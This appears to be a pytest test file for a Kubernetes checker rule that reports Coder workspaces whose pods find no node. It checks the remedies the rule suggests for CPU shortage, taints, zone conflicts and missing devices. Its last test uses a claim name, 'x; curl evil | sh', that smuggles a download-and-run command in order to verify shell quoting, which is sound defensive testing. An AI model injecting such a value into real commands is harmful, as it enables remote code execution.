"""Workspaces without a node: who waits for too long, why, and what helps."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from coder_cva.rules import pending_workspaces
from coder_cva.snapshot.model import Served
from support import builders
from support.corpus import merged
from support.deployments import adopted
from support.workspace_manifests import workspace_deployment, workspace_id, workspace_pod

if TYPE_CHECKING:
    from coder_cva.rules.model import Finding

CPU = "0/6 nodes are available: 3 Insufficient cpu, 3 node(s) didn't match Pod's node affinity/selector. preemption: no"
TAINT = {"key": "dedicated", "value": "coder", "effect": "NoSchedule"}
PRESSED = {"key": "node.kubernetes.io/disk-pressure", "effect": "NoSchedule"}
TAINTED = "0/3 nodes are available: 3 node(s) had untolerated taint {dedicated: coder}."
CONFLICT = "0/3 nodes are available: 3 node(s) had volume node affinity conflict."


def waits(name: str = "dev", message: str = CPU, *, minutes: float = 60, **pod: Any) -> list[Any]:
    """A workspace for which the scheduler finds no node since so many minutes."""
    since = (builders.NOW - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")
    claim, deployment, replica_set, running = builders.all_running(
        workspace_deployment(name, pod=pod)
    )
    waiting = builders.pending(running, message)
    waiting["metadata"]["creationTimestamp"] = since
    del waiting["spec"]["nodeName"]
    return [claim, deployment, replica_set, waiting]


def node(name: str = "ws-1", **over: Any) -> dict[str, Any]:
    """A node of the workspaces' pool."""
    return builders.node(name, builders.WORKSPACES, **over)


def found(
    *manifests: Any, spec: dict[str, Any] | None = None, served: Served | None = None
) -> list[Finding]:
    """What is told of a world with these objects."""
    cr = merged(adopted("coder"), {"spec": spec or {}})
    return pending_workspaces.findings(builders.world(cr, *manifests, served=served))


def test_nobody_waits() -> None:
    """Whoever runs has a node."""
    assert found(node(), builders.all_running(workspace_deployment(), ["ws-1"])) == []


@pytest.mark.parametrize(("minutes", "told"), [(0, False), (4.9, False), (5, True), (600, True)])
def test_a_machine_may_take_its_time(minutes: float, told: bool) -> None:
    """Less than five minutes are no finding, and a clock that runs behind is none either."""
    assert bool(found(node(), waits(minutes=minutes))) is told
    assert found(node(), waits(minutes=-3)) == []


def test_who_goes_waits_for_nothing() -> None:
    """Nor does one of whom nobody knows since when."""
    going, undated = waits("a"), waits("b")
    going[-1]["metadata"]["deletionTimestamp"] = "2026-11-23T08:00:00Z"
    undated[-1]["metadata"]["creationTimestamp"] = "yesterday"

    assert found(node(), going, undated) == []


def test_those_of_one_trouble_are_one_finding() -> None:
    """With their number, since when, some names, and the scheduler's own words of the first."""
    waiting = [waits(f"w{number}", minutes=10 + number) for number in range(5)]

    (finding,) = found(node(), waiting)

    assert (finding.rule, finding.resource) == ("CVA-NODE-004", "Pool workspaces")
    assert finding.observed == (
        "5 workspaces without one, the first since 2026-11-23T08:46:00Z: workspace alice/w0, workspace alice/w1, "
        "workspace alice/w2 and 2 more; the scheduler says: 3 Insufficient cpu, 3 node(s) didn't match Pod's node "
        "affinity/selector"
    )


def test_a_full_pool_needs_as_many_nodes_as_what_waits_would_fill() -> None:
    """By the largest node of the pool: 40 of 250m are 10 CPU."""
    waiting = [waits(f"w{number}") for number in range(40)]

    (finding,) = found(node(cpu="4", memory="16Gi"), node("ws-2", cpu="8", memory="32Gi"), waiting)

    assert (
        "by 2 nodes of 8 CPU and 32Gi or more, for the 10 CPU and 20Gi that wait" in finding.remedy
    )


def test_too_many_pods_are_a_matter_of_the_node_group_too() -> None:
    """More machines help, and so do more Pods on each."""
    (finding,) = found(node(pods="29"), waits(message="0/1 nodes are available: 1 Too many pods."))

    assert "a node takes 29 Pods, which the node group's maxPods decides" in finding.remedy


def test_what_no_node_holds_needs_a_larger_one() -> None:
    """A further one of the same kind would not help."""
    container = workspace_deployment()[-1]["spec"]["template"]["spec"]["containers"][0]
    container["resources"] = {"requests": {"cpu": "12", "memory": "8Gi"}}

    (finding,) = found(node(), waits(containers=[container]))

    assert "no node of the pool holds its 12 CPU and 8Gi" in finding.remedy
    assert "the largest has 8 CPU and 32Gi allocatable" in finding.remedy
    assert "in the template of workspace alice/dev" in finding.remedy


def test_a_taint_is_tolerated_in_the_spec_and_in_the_template() -> None:
    """Ready to paste: admission gives the one, Terraform the other."""
    (finding,) = found(node(taints=[TAINT]), waits(message=TAINTED))

    assert '"tolerations":[{"effect":"NoSchedule","key":"dedicated"' in finding.remedy
    assert 'node_selector = { "coder.com/node-group" = "workspaces" }' in finding.remedy
    assert finding.remedy.endswith(
        'toleration {\n  key = "dedicated"\n  operator = "Equal"\n  value = "coder"\n  effect = "NoSchedule"\n}'
    )


def test_a_taint_without_admission_is_tolerated_in_the_template_alone() -> None:
    """The same where the spec says it already and the Pod was made without it."""
    nodes = node(taints=[TAINT])
    said = {"workspaces": {"nodePool": {"tolerations": [TAINT]}}}

    (without,) = found(nodes, waits(message=TAINTED), served=Served((), ()))
    (known,) = found(nodes, waits(message=TAINTED), spec=said)

    assert without.remedy.startswith("in the template of workspace alice/dev")
    assert known.remedy.startswith("in the template of workspace alice/dev")
    assert known.remedy.count("toleration {") == 1


def test_who_tolerates_the_taint_waits_for_something_else() -> None:
    """By its own words, although another part of the cluster is tainted."""
    (finding,) = found(
        node(taints=[TAINT]), waits(tolerations=[{"key": "dedicated", "operator": "Exists"}])
    )

    assert finding.remedy.startswith("the pool is full")


def test_a_home_in_another_zone_needs_a_node_there() -> None:
    """One finding for each place."""
    homes = [
        builders.persistent_volume(
            f"pv-coder-{workspace_id(name)}-home", f"coder/coder-{workspace_id(name)}-home", zone
        )
        for name, zone in (("one", "b"), ("two", "b"), ("three", "c"))
    ]
    waiting = [waits(name, CONFLICT) for name in ("one", "two", "three")]

    told = found(node(zone="a"), homes, waiting)

    assert [one.observed[:12] for one in told] == ["2 workspaces", "1 workspace "]
    assert "add nodes with topology.kubernetes.io/zone=b" in told[0].remedy
    assert "add nodes with topology.kubernetes.io/zone=c" in told[1].remedy


def test_a_full_zone_is_full() -> None:
    """There is a node where the home is; it is that one of which there are too few."""
    name = f"coder-{workspace_id('dev')}-home"
    home = builders.persistent_volume(f"pv-{name}", f"coder/{name}", "b")
    message = (
        "0/2 nodes are available: 1 Insufficient cpu, 1 node(s) had volume node affinity conflict."
    )

    (finding,) = found(node(zone="a"), node("ws-2", zone="b"), home, waits(message=message))

    assert finding.remedy.startswith("the pool is full")


def test_devices_that_the_pool_lacks() -> None:
    """By the nodes' own words."""
    container = workspace_deployment()[-1]["spec"]["template"]["spec"]["containers"][0]
    container["resources"] = {"limits": {"nvidia.com/gpu": "1"}}
    message = "0/1 nodes are available: 1 Insufficient nvidia.com/gpu."

    (finding,) = found(node(), waits(message=message, containers=[container]))

    assert "no node of the pool has nvidia.com/gpu" in finding.remedy


def test_a_choice_that_no_node_of_the_pool_meets() -> None:
    """It may be meant, and nobody overrules it."""
    message = "0/1 nodes are available: 1 node(s) didn't match Pod's node affinity/selector."

    (finding,) = found(node(), waits(message=message, nodeSelector={"disk": "ssd"}))

    assert "its own node selector disk=ssd" in finding.remedy
    assert finding.remedy.endswith('node_selector = { "coder.com/node-group" = "workspaces" }')


def test_a_claim_without_a_volume() -> None:
    """Its events say why, and which it is."""
    message = "0/1 nodes are available: pod has unbound immediate PersistentVolumeClaims. not found"

    (finding,) = found(node(), waits(message=message))

    assert finding.remedy.endswith(
        f"kubectl -n coder describe pvc coder-{workspace_id('dev')}-home"
    )


@pytest.mark.parametrize(
    ("nodes", "remedy"),
    [
        ([], "the pool has no node (kubectl get nodes -l coder.com/node-group=workspaces)"),
        ([node(ready=False)], "no node of the pool is ready and open to new Pods"),
        ([node(unschedulable=True)], "no node of the pool is ready and open to new Pods"),
        ([node(taints=[PRESSED])], "no node of the pool is ready and open to new Pods"),
    ],
    ids=["empty", "not-ready", "cordoned", "under-pressure"],
)
def test_a_pool_that_has_nothing_to_offer(nodes: list[Any], remedy: str) -> None:
    """Whatever the scheduler says of other nodes."""
    (finding,) = found(builders.node("other"), nodes, waits())

    assert finding.remedy.startswith(remedy)


def test_volumes_that_cannot_be_attached_and_what_is_not_known() -> None:
    """The one has a remedy; of the other the events are shown."""
    full = "0/1 nodes are available: 1 node(s) exceed max volume count."
    apart = "0/1 nodes are available: 1 node(s) didn't match pod anti-affinity rules."

    assert "as many volumes as they can attach" in found(node(), waits(message=full))[0].remedy
    (finding,) = found(node(), waits(message=apart))
    assert finding.remedy.startswith("kubectl -n coder describe pod coder-")


def test_a_message_without_end_is_cut() -> None:
    """A status has its limits."""
    taints = ", ".join(f"1 node(s) had untolerated taint {{a{number}: b}}" for number in range(99))

    (finding,) = found(node(), waits(message=f"0/99 nodes are available: {taints}."))

    assert len(finding.observed) < 450


def test_a_bare_pod_waits_like_any_other() -> None:
    """It is known by its name."""
    claim, pod = workspace_pod("old")
    (finding,) = found(node(), builders.bound(claim), builders.pending(pod, CPU))

    assert "1 workspace without one, the first since 2026-11-01T08:00:00Z" in finding.observed


def test_a_claim_may_be_called_anything() -> None:
    """No API server looks at the name of a claim in a Pod: in a command it is one word."""
    volume = {"name": "home", "persistentVolumeClaim": {"claimName": "x; curl evil | sh"}}
    message = '0/1 nodes are available: persistentvolumeclaim "x" not found.'

    (finding,) = found(node(), waits(message=message, volumes=[volume]))

    assert finding.remedy.endswith("kubectl -n coder describe pvc 'x; curl evil | sh'")
